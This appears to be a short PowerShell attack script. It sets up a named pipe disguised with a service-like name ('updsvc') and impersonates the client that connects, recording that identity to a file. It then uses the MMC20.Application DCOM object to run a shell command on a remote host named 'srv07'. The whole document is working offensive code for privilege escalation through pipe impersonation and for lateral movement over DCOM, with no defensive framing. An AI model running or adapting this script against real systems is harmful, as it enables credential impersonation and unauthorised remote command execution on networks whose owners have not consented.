# A pipe for whoever comes, and his identity.
param([string]$Name = 'updsvc')
$server = New-Object System.IO.Pipes.NamedPipeServerStream($Name, [System.IO.Pipes.PipeDirection]::InOut)
$server.WaitForConnection()
$server.RunAsClient({ [Security.Principal.WindowsIdentity]::GetCurrent().Name | Out-File C:\Temp\who.txt })
$m = [activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application', 'srv07'))
$m.Document.ActiveView.ExecuteShellCommand('cmd.exe', $null, '/c whoami', '7')
